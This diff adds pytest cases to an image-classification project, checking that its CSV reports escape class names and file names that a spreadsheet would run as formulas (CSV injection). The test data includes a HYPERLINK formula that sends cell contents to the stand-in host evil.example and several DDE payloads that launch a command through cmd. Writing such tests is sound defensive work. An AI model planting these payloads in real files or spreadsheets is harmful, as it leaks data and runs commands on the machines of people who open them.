@@ -369,3 +369,33 @@ def test_many_images_go_to_the_csv_not_the_terminal(trained, tmp_path, monkeypat
     out = capsys.readouterr().out.splitlines()
     assert not [line for line in out if line.startswith("  ")]
     assert len(_rows(tmp_path / "runs" / "predict" / "exp" / predict.CSV_NAME)) == predict.SHOWN + 1
+
+
+# ---------------------------------------------------------------------------------------------------
+# A class name or a file name that a spreadsheet would run as a formula (issue 43; OWASP "CSV Injection")
+
+FORMULAS = [  # (text from a file or a folder, the cell predictions.csv holds)
+    ('=HYPERLINK("http://evil.example/?x="&A1,"open")', '\'=HYPERLINK("http://evil.example/?x="&A1,"open")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("-1", "-1"),        # a class named by a number stays that number
+    ("+3.5", "+3.5"),
+    ("cat", "cat"),
+    ("a=b", "a=b"),      # not at the start: no formula
+]
+
+
+@pytest.mark.parametrize("text, cell", FORMULAS, ids=[f"case{i}" for i in range(len(FORMULAS))])
+def test_no_cell_of_the_reports_starts_a_formula(tmp_path, text, cell):
+    p = predict.Prediction(path=text, frame=None, top=[(text, 0.9), ("dog", 0.1)])
+    predict.write_csv(tmp_path / "predictions.csv", [p], 2, "none")
+    with open(tmp_path / "predictions.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[1][0] == cell and rows[1][3] == cell and rows[1][5] == "dog"
+    from dlenv.evaluate import _csv_bytes
+
+    val = list(csv.reader(io.StringIO(_csv_bytes(["class", text], [[text, 1]]).decode(), newline="")))
+    assert val == [["class", cell], [cell, "1"]]  # val's per_class, confusion_matrix and errors CSVs alike
